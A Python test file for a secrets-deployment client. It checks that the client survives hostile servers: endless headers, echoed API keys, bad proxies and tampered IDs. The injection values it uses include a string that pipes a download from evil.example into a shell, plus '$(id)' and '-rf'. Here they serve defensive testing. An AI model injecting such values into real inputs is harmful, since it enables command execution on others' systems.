"""Stories of an attack: a server that lies, drips or echoes, and what a run makes of it."""

from __future__ import annotations

import asyncio
import socket
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, contextmanager, suppress
from dataclasses import replace

import pytest

from phala_secrets import create_async_client, create_client
from phala_secrets.errors import AnswerError, ApiError, TransportError
from phala_secrets.simulator.cloud import Cloud
from phala_secrets.simulator.cvm import Cvm
from phala_secrets.simulator.wire import Answer, Request
from tests.support.clock import ManualClock
from tests.support.command import Command
from tests.support.faults import Fault
from tests.support.faulty import FaultySimulator as Simulator
from tests.support.step import Step

KEY = "phak_canary_0123456789"


@contextmanager
def serving(talk: Callable[[socket.socket], None]) -> Iterator[str]:
    """A server of the test's own: reads a request, and then talks. Gives its URL."""

    def serve(connection: socket.socket) -> None:
        with suppress(OSError), connection:
            connection.recv(65536)
            talk(connection)

    def listen() -> None:
        with suppress(OSError):
            while True:
                threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()

    with closing(socket.create_server(("127.0.0.1", 0))) as listener:
        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{listener.getsockname()[1]}"


def drips_a_header(connection: socket.socket) -> None:
    connection.sendall(b"HTTP/1.1 200 OK\r\nX-Drip: ")
    while True:
        connection.sendall(b"a")
        time.sleep(0.05)


def only_hints(connection: socket.socket) -> None:
    while True:
        connection.sendall(b"HTTP/1.1 103 Early Hints\r\n\r\n")
        time.sleep(0.05)


# -- a server that never comes to an end ------------------------------------------------------------


@pytest.mark.parametrize("talk", [drips_a_header, only_hints])
@pytest.mark.parametrize("kind", ["sync", "async"])
def test_a_head_that_never_ends_is_given_up(talk: Callable[[socket.socket], None], kind: str) -> None:
    """A socket's timeout starts anew with each byte, so the whole of the answer's head has one as well."""

    async def ask(url: str) -> None:
        async with create_async_client(KEY, url, timeout=0.1) as client:
            await client.update_cvm_envs("my-app", encrypted_env="ab" * 60, env_keys=["A"])

    def ask_sync(url: str) -> None:
        with create_client(KEY, url, timeout=0.1) as client:
            client.update_cvm_envs("my-app", encrypted_env="ab" * 60, env_keys=["A"])

    with serving(talk) as url, pytest.raises(TransportError, match="no response in time") as failed:
        ask_sync(url) if kind == "sync" else asyncio.run(ask(url))
    assert failed.value.sent


def test_a_stream_that_is_only_kept_open_holds_nobody(clock: ManualClock) -> None:
    """A comment now and then is no news: it must not keep anybody beyond the time to wait."""

    def talk(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n")
        while True:
            connection.sendall(b": ping\n\n")
            clock.advance(0.2)
            time.sleep(0.01)  # a reader has to keep up

    with serving(talk) as url, create_client(KEY, url) as client:
        events = list(client.watch_cvm_state("my-app", interval=5, timeout=10))
    assert [event.type for event in events] == ["timeout"]


# -- a server that echoes what it was sent ----------------------------------------------------------


def test_a_key_that_a_server_echoes_is_in_no_error(simulator: Simulator) -> None:
    simulator.cloud.api_key = KEY
    echoes = (
        Fault("redirect", location=f"https://elsewhere.example/?key={KEY}"),
        Fault("status", status=422, headers={"X-Request-ID": KEY}, body={"detail": KEY}),
    )
    with create_client(KEY, simulator.url) as client:
        for echo in echoes:
            simulator.faults.add(echo)
            with pytest.raises((AnswerError, ApiError)) as failed:
                client.get_cvm_info("my-app")
            assert KEY not in f"{failed.value}{failed.value.hint}{vars(failed.value)}"


def test_a_key_that_a_stream_echoes_is_in_no_event() -> None:
    def talk(connection: socket.socket) -> None:
        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nConnection: close\r\n\r\n")
        connection.sendall(f'event: complete\ndata: {{"status": "running", "said": "{KEY}"}}\n\n'.encode())

    with serving(talk) as url, create_client(KEY, url) as client:
        (event,) = client.watch_cvm_state("my-app")
    assert KEY not in repr(event)


def test_a_key_in_an_rpcs_url_that_it_echoes_is_not_told(
    run: Command, cvm: Cvm, simulator: Simulator
) -> None:
    chain = "0x2f83172A49584C017F2B256F0FB2Dca14126Ba9C"
    on_chain = simulator.cloud.add_cvm("on-chain", kms=simulator.cloud.add_kms("base", 8453, chain))
    path = "/v3/0123456789abcdef0123456789abcdef"

    def redirects(connection: socket.socket) -> None:
        connection.sendall(f"HTTP/1.1 308 X\r\nLocation: {path}/\r\nContent-Length: 0\r\n\r\n".encode())

    def refuses(connection: socket.socket) -> None:
        body = f'{{"jsonrpc": "2.0", "id": 1, "error": {{"message": "no project {path[4:]}"}}}}'
        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())

    for talk in (redirects, refuses):
        with serving(talk) as url:
            done = run("verify", "--cvm", on_chain.id, "--rpc-url", url + path)
        assert done.code == 6, done.printed
        assert path[4:] not in done.printed


# -- a proxy that is none ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "proxy",
    [
        {"HTTPS_PROXY": "socks5://user:canary-password@127.0.0.1:9"},
        {"HTTPS_PROXY": "ftp://user:canary-password@127.0.0.1:9"},
        {"HTTPS_PROXY": "http://user:canary-password@[::1"},
        {"HTTPS_PROXY": "http://127.0.0.1:9", "NO_PROXY": "[::1"},
        {"HTTPS_PROXY": "http://127.0.0.1:9", "NO_PROXY": "cloud.example, 10.0.0.0/99"},
    ],
)
def test_a_proxy_that_cannot_be_used_is_an_input_that_is_wrong(run: Command, proxy: dict[str, str]) -> None:
    environ = {"PHALA_CLOUD_API_PREFIX": "https://api.invalid/api/v1", **proxy}
    done = run("verify", "--cvm", "my-app", environ=environ)
    assert done.code == 2, done.printed
    assert "PROXY" in done.errors[0]
    assert "canary" not in done.printed


# -- ids that are none, and outcomes that are not known ---------------------------------------------

SCRIPT = '"; curl https://evil.example | sh; "'


@pytest.mark.parametrize(
    ("path", "field", "sent", "code"),
    [
        ("/my-app", "id", 0, 6),
        ("/kms", "slug", 0, 6),
        ("/operations", "correlation_id", 1, 6),
        ("/envs", "correlation_id", 1, 0),  # the operations tell the one that it has
    ],
)
@pytest.mark.parametrize("text", [SCRIPT, "../../elsewhere", "$(id)", "a\nb", ".", "-rf"])
def test_an_id_that_could_act_in_a_script_is_no_answer(
    run: Command, cloud: Cloud, cvm: Cvm, path: str, field: str, sent: int, code: int, text: str
) -> None:
    """Ids become outputs, which workflows put into scripts: an API that lies must not write those."""

    def lie(answer: object) -> object:
        if isinstance(answer, list):
            return [lie(each) for each in answer]
        if isinstance(answer, dict):
            return {name: text if name == field else lie(value) for name, value in answer.items()}
        return answer

    def tamper(request: Request, answer: Answer) -> Answer:
        named = request.path.endswith(path)
        return Answer(lie(answer.body), answer.status) if named and answer.status < 300 else answer

    if path == "/operations":
        assert run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "2"}).code == 0
        cloud.reset_requests()
    cloud.tamper = tamper
    done = run("update", "--cvm", "my-app", "--secrets", "OLD", "--json", environ={"OLD": "3"})
    assert done.code == code, done.printed
    assert text not in [*done.json.values()]
    assert sum(request.method == "PATCH" for request in cloud.requests) == sent


@pytest.mark.usefixtures("clock")
@pytest.mark.parametrize("status", [401, 403, 404, 422])
def test_a_lost_response_without_revisions_is_an_unknown_outcome(
    run: Command, simulator: Simulator, cvm: Cvm, status: int
) -> None:
    simulator.faults.add(Fault("reset_after", "PATCH"))
    simulator.faults.add(Fault("status", path="/revisions", times=None, status=status))
    done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "2"})
    assert done.code == 6
    assert "is unknown" in done.errors[0]
    assert cvm.wait().environment == {"OLD": "2"}


def test_what_became_of_a_fleet_is_told_though_the_last_look_fails(
    run: Command, cloud: Cloud, cvm: Cvm, simulator: Simulator
) -> None:
    cloud.add_cvm("second", app_id=cvm.app_id, environment={"OLD": "1"}).boot_fails("no such image")
    simulator.faults.add(Fault("status", path="^/apps/", skip=1, times=None, status=403))
    arguments = ("update", "--app", cvm.app_id, "--secrets", "OLD", "--fail-fast")
    done = run(*arguments, environ={"OLD": "2"})
    assert done.code == 8, done.printed
    assert "no such image" in done.errors[0]
    assert "looking for new replicas failed" in done.printed


# -- a key where a path belongs ---------------------------------------------------------------------


@pytest.mark.parametrize("name", ["API_KEY_FILE", "PRIVATE_KEY_FILE"])
def test_a_key_in_place_of_the_path_of_its_file_is_not_told(run: Command, cvm: Cvm, name: str) -> None:
    key = "0x" + "c0ffee42" * 8
    environ = {"OLD": "2", f"PHALA_SECRETS_{name}": key}
    done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ=environ)
    assert done.code == 2
    assert "-key-file does not exist" in done.errors[0]
    assert "c0ffee" not in done.printed


# -- checks that would be none ----------------------------------------------------------------------


def test_a_contract_with_no_rpc_to_ask_is_not_passed_over(run: Command, cloud: Cloud, cvm: Cvm) -> None:
    done = run("verify", "--cvm", "my-app", "--kms-contract", "0x" + "ab" * 20)
    assert done.code == 2
    assert "kms-contract has no effect without rpc-url" in done.errors[0]
    assert not cloud.requests


@pytest.mark.usefixtures("clock")
def test_an_operation_that_may_be_another_runs_is_not_claimed(
    run: Command, cvm: Cvm, simulator: Simulator, another_run: Callable[[Mapping[str, str]], None]
) -> None:
    """Only a revision with our very ciphertext shows that a lost update was accepted."""
    simulator.faults.add(Fault("reset_before", "PATCH", skip=1))
    another_run({"OLD": "theirs"})
    done = run("update", "--cvm", "my-app", "--secrets", "OLD", environ={"OLD": "ours"})
    assert done.code == 6
    assert cvm.environment == {"OLD": "theirs"}
    assert "is unknown" in done.errors[0]


@pytest.mark.parametrize("by", ["id", "uuid", "instance"])
def test_a_cvm_that_is_named_by_its_own_id_is_that_one(step: Step, cvm: Cvm, cloud: Cloud, by: str) -> None:
    """Of the same app, so that neither key nor ``app-id`` tells: the API would pick who gets the secrets."""
    other = cloud.add_cvm("other", app_id=cvm.app_id, environment={"OLD": "1"})
    named = {"id": cvm.id, "uuid": cvm.vm_uuid, "instance": f"instance_{cvm.instance_id}"}[by]
    assert step(cvm=named, env="OLD=2", app_id=cvm.app_id).code == 0

    def lie(request: Request, answer: Answer) -> Answer:
        if request.method == "GET" and request.path.count("/") == 2 and request.path.startswith("/cvms/"):
            mine = {"id": other.id, "vm_uuid": other.vm_uuid, "instance_id": other.instance_id}
            return replace(answer, body={**answer.body, **mine, "name": other.name})
        return answer

    cloud.tamper = lie
    done = step(cvm=named, env="OLD=3", app_id=cvm.app_id)
    assert done.code == 3, done.log
    assert f"returned the CVM {other.id}" in done.annotations("error")[0].data
    assert other.environment == {"OLD": "1"}
